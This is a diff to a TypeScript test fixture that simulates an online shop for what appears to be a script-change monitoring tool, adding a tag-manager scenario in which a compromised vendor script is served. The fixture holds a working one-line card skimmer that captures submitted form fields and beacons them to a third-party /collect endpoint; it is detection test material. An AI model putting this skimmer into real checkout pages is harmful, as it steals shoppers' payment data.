@@ -37,12 +37,19 @@ export interface ShopSwitches {
   missingScript: boolean;
   /** The checkout page is larger than any page cloud15 reads. */
   oversizedPage: boolean;
+  /**
+   * A tag manager on the checkout page: its `/js/tags.js` adds the third party's `/js/tag.js`
+   * when the page runs, so only a browser (`render`) sees that script.
+   */
+  tagManager: boolean;
+  /** The third party's `/js/tag.js`, loaded by the tag manager, changed (a compromised vendor). */
+  tagChanged: boolean;
 }
 
 export const SAFE_SHOP: ShopSwitches = {
   skimmer: false, newThirdPartyScript: false, newFirstPartyScript: false, inlineChanged: false, formToOtherOrigin: false,
   dropCsp: false, dropHsts: false, certificate: "valid", openAdmin: false, legacyTls: false, disclosesVersion: false,
-  hangPage: false, missingScript: false, oversizedPage: false,
+  hangPage: false, missingScript: false, oversizedPage: false, tagManager: false, tagChanged: false,
 };
 
 export interface SimulatedShop {
@@ -66,6 +73,7 @@ const DAY = 86_400_000;
 
 export const APP_JS = "document.querySelector('#card-form').addEventListener('submit', function () { /* validates the form */ });\n";
 export const CART_JS = "window.cart = { items: [], total: 0 };\n";
+export const TAG_JS = "window.dataLayer = window.dataLayer || [];\n";
 const SKIMMER = "document.addEventListener('submit',function(e){var d=new FormData(e.target);navigator.sendBeacon('{third}/collect',JSON.stringify(Object.fromEntries(d)));});\n";
 
 export async function startSimulatedShop(initial: Partial<ShopSwitches> = {}): Promise<SimulatedShop> {
@@ -98,6 +106,7 @@ export async function startSimulatedShop(initial: Partial<ShopSwitches> = {}): P
     const path = pathOf(req);
     requests[`third${path}`] = (requests[`third${path}`] ?? 0) + 1;
     if (path === "/js/analytics.js") return script("window.analytics = { track: function () {} };\n");
+    if (path === "/js/tag.js") return script(switches.tagChanged ? TAG_JS + SKIMMER.replace("{third}", thirdPartyOrigin) : TAG_JS);
     if (path === "/card-frame") return html("<form><input name=card></form>");
     if (path === "/collect") return { status: 204, headers: {}, body: "" };
     return notFound();
@@ -112,6 +121,7 @@ export async function startSimulatedShop(initial: Partial<ShopSwitches> = {}): P
     if (path === "/js/app.js") return script(switches.skimmer ? APP_JS + SKIMMER.replace("{third}", thirdPartyOrigin) : APP_JS);
     if (path === "/js/cart.js") return switches.missingScript ? notFound() : script(CART_JS);
     if (path === "/js/coupon.js") return script("window.coupon = null;\n");
+    if (path === "/js/tags.js") return script(`(function () { var s = document.createElement("script"); s.src = "${thirdPartyOrigin}/js/tag.js"; document.head.appendChild(s); })();\n`);
     if (path === "/admin/") {
       return switches.openAdmin
         ? { status: 200, headers: pageHeaders(), body: "<!doctype html><title>管理画面ログイン</title><form method=post action=/admin/login><input name=login_id><input type=password name=password></form>" }
@@ -123,7 +133,7 @@ export async function startSimulatedShop(initial: Partial<ShopSwitches> = {}): P
   function pageHeaders(): Record<string, string> {
     return {
       "content-type": "text/html; charset=utf-8",
-      ...(switches.dropCsp ? {} : { "content-security-policy": `script-src 'self'; frame-src ${thirdPartyOrigin}; object-src 'none'` }),
+      ...(switches.dropCsp ? {} : { "content-security-policy": `script-src 'self'${switches.tagManager ? ` ${thirdPartyOrigin}` : ""}; frame-src ${thirdPartyOrigin}; object-src 'none'` }),
       ...(switches.dropHsts ? {} : { "strict-transport-security": "max-age=31536000; includeSubDomains" }),
       server: switches.disclosesVersion ? "Apache/2.4.41 (Ubuntu)" : "Apache",
       ...(switches.disclosesVersion ? { "x-powered-by": "PHP/7.4.3" } : {}),
@@ -136,6 +146,7 @@ export async function startSimulatedShop(initial: Partial<ShopSwitches> = {}): P
       `<script src="/js/cart.js"></script>`,
       switches.newFirstPartyScript ? `<script src="/js/coupon.js"></script>` : "",
       switches.newThirdPartyScript ? `<script src="${thirdPartyOrigin}/js/analytics.js"></script>` : "",
+      switches.tagManager ? `<script src="/js/tags.js"></script>` : "",
       `<script>window.shopConfig = { currency: "JPY", ${switches.inlineChanged ? 'debug: true' : 'debug: false'} };</script>`,
       `<script type="application/ld+json">{"@type":"Product","price":${Math.floor(Math.random() * 1000)}}</script>`,
     ].join("\n");
